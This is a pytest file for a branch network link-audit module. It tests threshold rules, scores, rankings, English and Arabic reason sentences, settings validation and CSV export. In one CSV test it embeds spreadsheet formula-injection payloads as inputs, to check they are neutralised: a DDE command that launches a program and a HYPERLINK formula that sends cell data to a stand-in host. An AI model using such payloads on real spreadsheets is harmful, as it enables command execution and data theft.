"""The branch link audit as tables of cases: one per rule, each threshold met exactly and missed
by a hair, combinations, a branch without uplinks and missing samples; the sentences in English
and Arabic carry the same numbers."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
from typing import Any

import pytest

from infra_mgr.network.audit import AuditThresholds, audit_branch, local_time, rank, reason_text, thresholds_from
from infra_mgr.network.linkfacts import AuditState, BranchFacts, LinkFacts, ReachFacts
from infra_mgr.web.i18n import Translator

# 2024-05-01 10:00 in Jeddah (UTC+3) = 07:00 UTC.
NOW = int(dt.datetime(2024, 5, 1, 7, 0, tzinfo=dt.UTC).timestamp() * 1000)
MIN = 60_000
TH = AuditThresholds()


def link(**kw: Any) -> LinkFacts:
    base: dict[str, Any] = {"interface_id": 1, "device": "jed-b07-rtr01", "interface": "Gi0/1", "oper_status": "up",
                            "last_sample_ms": NOW - MIN, "speed_bps": 10**9, "expected_speed_bps": 10**9,
                            "neighbor": "jed-hq-dist01", "expected_neighbor": "jed-hq-dist01",
                            "error_pct": 0.0, "util_p95_pct": 40.0}
    base.update(kw)
    return LinkFacts(**base)


def reach(**kw: Any) -> ReachFacts:
    base: dict[str, Any] = {"device": "jed-b07-rtr01", "icmp_loss_pct": 0.0, "snmp_loss_pct": 0.0, "rtt_ms": 2.0,
                            "probes": 15, "last_sample_ms": NOW - MIN, "lossy_cycles": 15}
    base.update(kw)
    return ReachFacts(**base)


def branch(links: list[LinkFacts] | None = None, reaches: list[ReachFacts] | None = None,
           code: str = "JED-B07") -> BranchFacts:
    return BranchFacts(site_code=code, site_name_en="Al-Balad", site_name_ar="البلد", now_ms=NOW,
                       links=[link()] if links is None else links, reach=[reach()] if reaches is None else reaches)


# (case, links, reaches, expected codes, expected state, expected score)
CASES: list[tuple[str, list[LinkFacts] | None, list[ReachFacts] | None, list[str], AuditState, int]] = [
    ("healthy", None, None, [], AuditState.ok, 100),
    ("down", [link(oper_status="down", oper_since_ms=NOW - 18 * MIN, flaps_24h=3)], None,
     ["link_down"], AuditState.down, 40),
    ("lowerLayerDown is not up", [link(oper_status="lowerLayerDown")], None, ["link_down"], AuditState.down, 40),
    ("down with flaps is not also flapping", [link(oper_status="down", flaps_24h=9)], None, ["link_down"],
     AuditState.down, 40),
    ("flapping at threshold", [link(flaps_24h=3)], None, ["flapping"], AuditState.degraded, 80),
    ("two flaps is not flapping", [link(flaps_24h=2)], None, [], AuditState.ok, 100),
    ("errors at threshold", [link(error_pct=0.5)], None, ["errors"], AuditState.degraded, 80),
    ("errors just below", [link(error_pct=0.49)], None, [], AuditState.ok, 100),
    ("errors unknown", [link(error_pct=None)], None, [], AuditState.ok, 100),
    ("slow", [link(speed_bps=10**8)], None, ["speed"], AuditState.degraded, 80),
    ("faster than expected is fine", [link(speed_bps=10**10)], None, [], AuditState.ok, 100),
    ("speed unknown", [link(speed_bps=None)], None, [], AuditState.ok, 100),
    ("no expected speed", [link(speed_bps=10**8, expected_speed_bps=None)], None, [], AuditState.ok, 100),
    ("wrong neighbour", [link(neighbor="jed-b12-sw01")], None, ["neighbor"], AuditState.degraded, 80),
    ("neighbour case differs only", [link(neighbor="JED-HQ-DIST01")], None, [], AuditState.ok, 100),
    ("neighbour not seen", [link(neighbor="")], None, [], AuditState.ok, 100),
    ("no expected neighbour", [link(expected_neighbor="", neighbor="x")], None, [], AuditState.ok, 100),
    ("utilisation at threshold", [link(util_p95_pct=90.0)], None, ["utilisation"], AuditState.degraded, 80),
    ("utilisation just below", [link(util_p95_pct=89.9)], None, [], AuditState.ok, 100),
    ("no data: last sample older than 15 min", [link(last_sample_ms=NOW - 15 * MIN - 1)], None, ["no_data"],
     AuditState.unknown, 90),
    ("data exactly 15 min old still counts", [link(last_sample_ms=NOW - 15 * MIN)], None, [], AuditState.ok, 100),
    ("never polled", [link(last_sample_ms=None, oper_status="unknown")], None, ["no_data"], AuditState.unknown, 90),
    ("stale status draws nothing else", [link(last_sample_ms=None, oper_status="down", speed_bps=10**8)], None,
     ["no_data"], AuditState.unknown, 90),
    ("stale link keeps its week of utilisation", [link(last_sample_ms=None, util_p95_pct=95.0)], None,
     ["utilisation", "no_data"], AuditState.degraded, 70),
    ("no uplinks", [], None, ["no_uplink"], AuditState.unknown, 90),
    ("unreachable", None, [reach(icmp_loss_pct=100.0, snmp_loss_pct=100.0)], ["unreachable"], AuditState.down, 40),
    ("unreachable without ICMP allowed", None, [reach(icmp_loss_pct=None, snmp_loss_pct=100.0)], ["unreachable"],
     AuditState.down, 40),
    ("answers ping, never SNMP", None, [reach(icmp_loss_pct=0.0, snmp_loss_pct=100.0)], ["no_snmp"],
     AuditState.degraded, 80),
    ("lossy ping beside no SNMP", None, [reach(icmp_loss_pct=20.0, snmp_loss_pct=100.0)], ["no_snmp", "loss"],
     AuditState.degraded, 60),
    ("loss at threshold (SNMP the worse)", None, [reach(icmp_loss_pct=0.0, snmp_loss_pct=5.0)], ["loss"],
     AuditState.degraded, 80),
    ("loss just below", None, [reach(icmp_loss_pct=4.9, snmp_loss_pct=4.9)], [], AuditState.ok, 100),
    ("one answer in the window is not unreachable", None, [reach(icmp_loss_pct=99.0, snmp_loss_pct=100.0)],
     ["no_snmp", "loss"], AuditState.degraded, 60),
    ("ICMP alone (read over SSH, no agent): healthy", None, [reach(icmp_loss_pct=0.0, snmp_loss_pct=None)], [],
     AuditState.ok, 100),
    ("ICMP alone: its loss is the echoes'", None, [reach(icmp_loss_pct=33.3, snmp_loss_pct=None)], ["loss"],
     AuditState.degraded, 80),
    ("ICMP alone: no echo answered", None, [reach(icmp_loss_pct=100.0, snmp_loss_pct=None)], ["unreachable"],
     AuditState.down, 40),
    ("no probe in the window", None, [reach(icmp_loss_pct=None, snmp_loss_pct=None, probes=0)], ["no_data"],
     AuditState.unknown, 90),
    ("everything wrong on one link (floored at 0)",
     [link(oper_status="down", error_pct=3.0, util_p95_pct=99.0, neighbor="x")],
     [reach(icmp_loss_pct=100.0, snmp_loss_pct=100.0)],
     ["link_down", "unreachable", "errors", "neighbor", "utilisation"], AuditState.down, 0),
    ("degraded on two links", [link(speed_bps=10**8), link(interface_id=2, interface="Gi0/2", flaps_24h=4)], None,
     ["speed", "flapping"], AuditState.degraded, 60),
]


@pytest.mark.parametrize(("links", "reaches", "codes", "state", "score"), [c[1:] for c in CASES],
                         ids=[c[0] for c in CASES])
def test_rules(links: list[LinkFacts] | None, reaches: list[ReachFacts] | None, codes: list[str],
               state: AuditState, score: int) -> None:
    audit = audit_branch(branch(links, reaches), TH)
    assert [r.code for r in audit.reasons] == codes
    assert audit.state == state
    assert audit.score == score
    assert audit.uplinks == len(links if links is not None else [1])


@pytest.mark.parametrize(("facts", "text"), [
    (link(oper_status="down", oper_since_ms=NOW - 18 * MIN, flaps_24h=3),
     "uplink Gi0/1 down since 06:42 UTC (3 flaps in 24 h)"),
    (link(oper_status="down", oper_since_ms=NOW - 18 * MIN, flaps_24h=1),
     "uplink Gi0/1 down since 06:42 UTC (1 flap in 24 h)"),
    (link(oper_status="down"), "uplink Gi0/1 down"),
    (link(oper_status="down", oper_since_ms=NOW - 2 * 86_400_000), "uplink Gi0/1 down since 2024-04-29 07:00 UTC"),
    (link(error_pct=0.8), "Gi0/1: errors 0.8 % of packets over 15 min"),
    (link(speed_bps=10**8), "Gi0/1: running at 100 Mb/s, expected 1 Gb/s"),
    (link(neighbor="jed-b12-sw1", expected_neighbor="jed-hq-dist1"),
     "Gi0/1: neighbour is jed-b12-sw1, expected jed-hq-dist1"),
    (link(util_p95_pct=92.4), "Gi0/1: utilisation p95 92 % over 7 days"),
    (link(last_sample_ms=None), "uplink Gi0/1: no data for 15 min"),
    (link(flaps_24h=4), "uplink Gi0/1 flapping: 4 flaps in 24 h"),
])
def test_link_sentences(facts: LinkFacts, text: str) -> None:
    reasons = audit_branch(branch([facts]), TH).reasons
    assert [r.text for r in reasons] == [text]
    assert reason_text(reasons[0], Translator("en")) == text  # the catalogue says the same as the text


def test_reach_sentence_and_params() -> None:
    r = audit_branch(branch(reaches=[reach(icmp_loss_pct=12.0, snmp_loss_pct=3.0)]), TH).reasons[0]
    assert r.text == "jed-b07-rtr01: loss 12 % over 15 min"
    assert r.device == "jed-b07-rtr01" and r.interface_id is None and r.params["value"] == 12.0
    assert reason_text(r, Translator("en")) == r.text


def test_arabic_sentences_carry_the_same_numbers() -> None:
    ar = Translator("ar")
    facts = [link(oper_status="down", oper_since_ms=NOW - 18 * MIN, flaps_24h=3),
             link(interface_id=2, interface="Gi0/2", speed_bps=10**8, error_pct=0.8)]
    texts = [reason_text(r, ar) for r in audit_branch(branch(facts, [reach(icmp_loss_pct=12.0)]), TH).reasons]
    assert texts[0] == "الوصلة الصاعدة Gi0/1 متوقفة منذ 06:42 UTC (3 تقلبات خلال 24 ساعة)"
    assert "الأخطاء 0.8 % من الحزم خلال 15 دقيقة" in texts[1]
    assert "100 ميجابت/ث" in texts[2] and "1 جيجابت/ث" in texts[2]  # the catalogue's units, as the facts say
    assert texts[3] == "jed-b07-rtr01: فقدان 12 % خلال 15 دقيقة"
    assert all(not any("a" <= ch <= "z" for ch in t.replace("Gi0/", "").replace("jed-b07-rtr01", "")
                       .replace("Mb/s", "").replace("Gb/s", "")) for t in texts), texts


def test_unknown_code_falls_back_to_english_text() -> None:
    r = audit_branch(branch([link(error_pct=0.8)]), TH).reasons[0]
    odd = r.model_copy(update={"code": "not_in_catalogue"})
    assert reason_text(odd, Translator("ar")) == r.text


def test_thresholds_are_settings() -> None:
    strict = AuditThresholds(loss_pct=1.0, error_pct=0.1, flaps_24h=2, util_p95_pct=50, no_data_s=60)
    facts = branch([link(error_pct=0.2, flaps_24h=2, util_p95_pct=60.0, last_sample_ms=NOW - 30_000)],
                   [reach(icmp_loss_pct=2.0)])
    assert [r.code for r in audit_branch(facts, TH).reasons] == []
    assert {r.code for r in audit_branch(facts, strict).reasons} == {"flapping", "errors", "utilisation", "loss"}
    assert "over 30 min" in audit_branch(branch([link(error_pct=1.0)]), AuditThresholds(error_window_s=1800)
                                         ).reasons[0].text


def test_thresholds_from_settings() -> None:
    class S:
        link_audit = {"loss_pct": 3}

    assert thresholds_from(S()).loss_pct == 3 and thresholds_from(S()).flaps_24h == 3
    S.link_audit = {"loss_pc": 3}  # a misspelt name is refused, not ignored
    with pytest.raises(ValueError, match="loss_pc"):
        thresholds_from(S())


def test_rank_worst_first_then_code() -> None:
    ok_b = audit_branch(branch(code="JED-B02"), TH)
    ok_a = audit_branch(branch(code="JED-B01"), TH)
    down = audit_branch(branch([link(oper_status="down")], code="JED-B09"), TH)
    unknown = audit_branch(branch([], code="JED-B05"), TH)
    assert [a.site_code for a in rank([ok_b, unknown, ok_a, down])] == ["JED-B09", "JED-B05", "JED-B01", "JED-B02"]


def test_pure_and_deterministic() -> None:
    facts = branch([link(oper_status="down", oper_since_ms=NOW - MIN)], [reach(icmp_loss_pct=50.0)])
    before = dataclasses.asdict(facts)
    assert audit_branch(facts, TH) == audit_branch(facts, TH)
    assert dataclasses.asdict(facts) == before


def test_times_are_utc_and_say_so() -> None:
    assert local_time(NOW, NOW) == "07:00 UTC"
    # another day than "now": the date too
    late = int(dt.datetime(2024, 4, 30, 23, 30, tzinfo=dt.UTC).timestamp() * 1000)
    assert local_time(late, NOW) == "2024-04-30 23:30 UTC"


def test_a_branch_device_with_no_uplink_is_named() -> None:
    facts = branch()
    facts.devices_without_uplink = ["jed-b07-sw01"]
    verdict = audit_branch(facts, TH)
    assert verdict.state == AuditState.unknown and verdict.score == 90
    (r,) = verdict.reasons
    assert r.code == "no_uplink" and r.device == "jed-b07-sw01" and r.text == "jed-b07-sw01: no uplink known"
    assert reason_text(r, Translator("ar")) == "jed-b07-sw01: لا توجد وصلة صاعدة معروفة"
    # a branch without any uplink says so once, not once per device
    none = branch(links=[])
    none.devices_without_uplink = ["jed-b07-rtr01", "jed-b07-sw01"]
    assert [x.device for x in audit_branch(none, TH).reasons if x.code == "no_uplink"] == [""]


def test_pages_isolate_names_and_units_inside_arabic_sentences() -> None:
    (r,) = audit_branch(branch([link(interface="Gi1/0/24", speed_bps=10**8)]), TH).reasons
    plain = reason_text(r, Translator("ar"))
    isolated = reason_text(r, Translator("ar"), isolate=True)
    assert "\u2068Gi1/0/24\u2069" in isolated and "\u2068100 ميجابت/ث\u2069" in isolated
    assert isolated.replace("\u2068", "").replace("\u2069", "") == plain


def test_a_misspelt_threshold_stops_the_settings_from_loading() -> None:
    import pydantic

    from infra_mgr.config import Settings

    with pytest.raises(pydantic.ValidationError, match="flaps"):
        Settings(link_audit={"flaps": 5})
    assert thresholds_from(Settings(link_audit={"loss_pct": 3})).loss_pct == 3


def test_the_report_csv_never_starts_a_formula() -> None:
    from infra_mgr.network.link_views import audit_csv

    verdict = audit_branch(branch([link(oper_status="down", interface="=cmd|' /C calc'!A0")]), TH)
    bad = verdict.model_copy(update={"site_name_en": '=HYPERLINK("http://x.example/?"&A1,"x")', "site_code": "@B07"})
    rows = list(csv.reader(io.StringIO(audit_csv([bad], Translator("en")).lstrip("\ufeff"))))
    assert rows[1][0] == "'@B07" and rows[1][1].startswith("'=HYPERLINK(")
    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@")) for cell in rows[1])


def test_the_error_share_is_errors_over_packets_of_the_whole_window() -> None:
    from infra_mgr.network.link_views import _error_share

    # 14 busy minutes without errors (1,000 packets/s) and one quiet minute: 2 errors in 4 packets
    errors_ps = (2 / 60) / 15
    pkts_ps = (14 * 1000 + 4 / 60) / 15
    means = {(7, "errors_ps"): (errors_ps, 15, 0), (7, "pkts_ps"): (pkts_ps, 15, 0),
             (7, "error_pct"): ((50.0 + 0.0 * 14) / 15, 15, 0)}
    share = _error_share(means, 7)
    assert share is not None and share < 0.001  # not the 3.3 % a mean of per-minute shares gives
    assert _error_share({(8, "error_pct"): (1.5, 3, 0)}, 8) == 1.5  # no packet series yet: the old mean
    assert _error_share({}, 9) is None


def test_one_bad_cycle_is_not_a_lossy_link() -> None:
    """Two cycles with a lost probe make a finding; one (the poller's own busy moment) does not."""
    one = audit_branch(branch(reaches=[reach(snmp_loss_pct=8.3, probes=4, lossy_cycles=1)]), TH)
    two = audit_branch(branch(reaches=[reach(snmp_loss_pct=16.7, probes=4, lossy_cycles=2)]), TH)
    assert [r.code for r in one.reasons] == [] and [r.code for r in two.reasons] == ["loss"]
